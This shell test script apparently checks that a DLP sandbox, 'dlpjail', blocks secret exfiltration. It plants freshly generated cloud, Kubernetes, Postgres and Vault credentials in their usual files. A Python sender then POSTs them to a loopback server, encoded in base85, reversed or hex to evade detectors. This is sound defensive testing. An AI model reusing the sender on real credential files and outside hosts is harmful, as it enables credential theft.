#!/bin/sh
# 394-cloud-secrets: credentials that no detector pattern knows in the forms
# sent, found only because dlpjail collected them from where the tools keep
# them: a GCP service-account key JSON ($GOOGLE_APPLICATION_CREDENTIALS; an
# RSA key made by openssl now, PEM with \n escapes), a kubeconfig with a
# token and client-key-data (another RSA key, base64 PEM), ~/.pgpass and
# ~/.vault-token. Real python3 under dlpjail POSTs each to a loopback
# server: the token, the password and the vault token in base85, the
# service account's key body reversed, the kubeconfig key's DER in hex.
# Each is refused and evented redacted; `dlpjail --show-secrets` lists
# every source; run bare, the server receives all of them (the channel
# works and nothing else would have stopped them).
. "$(dirname "$0")/lib.sh"
command -v openssl >/dev/null || skip "openssl not installed"
need_relay
start_http 127.0.0.1 col

H=$T/home
W=$T/work
mkdir -p "$H/.kube" "$H/keys" "$W"
openssl genrsa -out "$T/sa.pem" 2048 2>/dev/null &&
	openssl genrsa -out "$T/kube.pem" 2048 2>/dev/null || { echo "openssl genrsa failed"; exit 99; }
# fresh values, none a part of another: a kubeconfig token (no detector
# format), a .pgpass password, a vault token
KTOK=$(python3 -c 'import secrets; print(secrets.token_urlsafe(24))')
PGPW=Pg!$(python3 -c 'import secrets; print(secrets.token_hex(7))')
VAULT=hvs.$(python3 -c 'import secrets; print(secrets.token_urlsafe(30))')
python3 - "$T" "$H" "$KTOK" <<'PY' || { echo "cannot write the credential files"; exit 99; }
import base64, json, sys
t, h, tok = sys.argv[1:4]
sa = open(t + "/sa.pem").read()
json.dump({"type": "service_account", "project_id": "t394", "private_key_id": "0" * 40,
           "private_key": sa, "client_email": "ci@t394.iam.gserviceaccount.com",
           "client_id": "123456789012345678901", "token_uri": "https://oauth2.googleapis.com/token"},
          open(h + "/keys/t394-sa.json", "w"), indent=2)
kd = base64.b64encode(open(t + "/kube.pem", "rb").read()).decode()
open(h + "/.kube/config", "w").write(
    "apiVersion: v1\nclusters:\n- cluster:\n    server: https://k8s.t394.example:6443\n  name: t\n"
    "contexts:\n- context:\n    cluster: t\n    user: ci\n  name: t\ncurrent-context: t\n"
    "kind: Config\nusers:\n- name: ci\n  user:\n    client-key-data: %s\n    token: %s\n" % (kd, tok))
PY
printf 'db.t394.example:5432:app:ci:%s\n' "$(printf '%s' "$PGPW" | sed 's/:/\\:/g')" > "$H/.pgpass"
chmod 600 "$H/.pgpass"
printf '%s\n' "$VAULT" > "$H/.vault-token"
GAC=$H/keys/t394-sa.json

# the sender: each value, encoded, in a POST body; "NAME sent" or "NAME blocked"
cat > "$T/send.py" <<'PY'
import base64, subprocess, sys, urllib.request
port, t = sys.argv[1:3]
tok, pgpw, vault = open(t + "/values").read().split()
def der_hex(pem):
    return subprocess.run(["openssl", "pkey", "-in", pem, "-outform", "DER"],
                          capture_output=True, check=True).stdout.hex()
def body(pem):
    return "".join(l for l in open(pem).read().splitlines() if not l.startswith("-----"))
forms = [("kube-token-b85", base64.b85encode(tok.encode()).decode()),
         ("pgpass-b85", base64.b85encode(pgpw.encode()).decode()),
         ("vault-b85", base64.b85encode(vault.encode()).decode()),
         ("sa-key-body-reversed", body(t + "/sa.pem")[::-1]),
         ("kube-key-der-hex", der_hex(t + "/kube.pem"))]
for name, data in forms:
    open(t + "/form." + name, "w").write(data)
    try:
        r = urllib.request.urlopen(urllib.request.Request(
            "http://127.0.0.1:%s/%s" % (port, name), data=data.encode(), method="POST"), timeout=20)
        print(name, "sent" if r.status == 200 else "blocked")
    except Exception:
        print(name, "blocked")
PY
J="--no-default-policy --allow 127.0.0.1 --no-canaries"
ENVS="HOME=$H GOOGLE_APPLICATION_CREDENTIALS=$GAC"
printf '%s\n' "$KTOK" "$PGPW" "$VAULT" > "$T/values"   # not in argv: events show argv
ARGS="$col_PORT $T"
# got NAME: the server received form NAME
got() { grep -qF -- "$(cat "$T/form.$1")" "$col_LOG"; }
no_plain() {
	for s in "$KTOK" "$PGPW" "$VAULT" "$(sed -n 2p "$T/sa.pem")" "$(sed -n 2p "$T/kube.pem")"; do
		if grep -qF -- "$s" "$@"; then echo "plaintext ${s%"${s#????}"}... in $*"; return 1; fi
	done
}

# --show-secrets: each source
(cd "$W" && env $ENVS "$DLPJAIL" --show-secrets) > "$T/show.out" 2>&1
sed 's/^/# /' "$T/show.out"
check "--show-secrets: the service account's key from \$GOOGLE_APPLICATION_CREDENTIALS" \
	grep -Eq 'private key +from .*/keys/t394-sa.json:[0-9]+ ' "$T/show.out"
check "--show-secrets: the kubeconfig's client-key-data (a key) and its token, homed at its server" sh -c \
	"grep -Eq 'private key +from ~/.kube/config:[0-9]+ ' '$T/show.out' &&
	 grep -Eq 'from ~/.kube/config:[0-9]+ +homes: k8s.t394.example$' '$T/show.out'"
check "--show-secrets: the .pgpass password, homed at its host" \
	grep -Eq 'from ~/.pgpass:1 +homes: db.t394.example$' "$T/show.out"
check "--show-secrets: the vault token" grep -Eq 'from ~/.vault-token ' "$T/show.out"
check "--show-secrets: no plaintext" no_plain "$T/show.out"

# bare: the channel works and nothing but the collection stands in the way
(cd "$W" && env $ENVS python3 "$T/send.py" $ARGS) > "$T/bare.out" 2>&1
sed 's/^/# bare: /' "$T/bare.out"
check "bare: all 5 forms reach the server" sh -c "[ \$(grep -c ' sent\$' '$T/bare.out') -eq 5 ]"
for f in kube-token-b85 pgpass-b85 vault-b85 sa-key-body-reversed kube-key-der-hex; do
	check "bare: the server received $f" got "$f"
done

# jailed: each one refused
: > "$col_LOG"
(cd "$W" && env $ENVS "$DLPJAIL" --log "$T/events.jsonl" $J -- python3 "$T/send.py" $ARGS) \
	> "$T/jail.out" 2> "$T/jail.err"
sed 's/^/# jail: /' "$T/jail.out"
for f in kube-token-b85 pgpass-b85 vault-b85 sa-key-body-reversed kube-key-der-hex; do
	check "jail: $f refused, never received" sh -c "grep -q '^$f blocked\$' '$T/jail.out' && ! grep -qF -- \"\$(cat '$T/form.$f')\" '$col_LOG'"
done
check "jail: evented as known-secret in base85" event_has '"detector":"known-secret"' 'base85|b85'
check "jail: evented as known-secret, key body reversed" event_has '"detector":"known-secret"' 'reversed'
check "jail: evented as known-secret, key in hex" event_has '"detector":"known-secret"' 'hex'
check "no plaintext in the events or on stderr" no_plain "$T/events.jsonl" "$T/jail.err"
finish
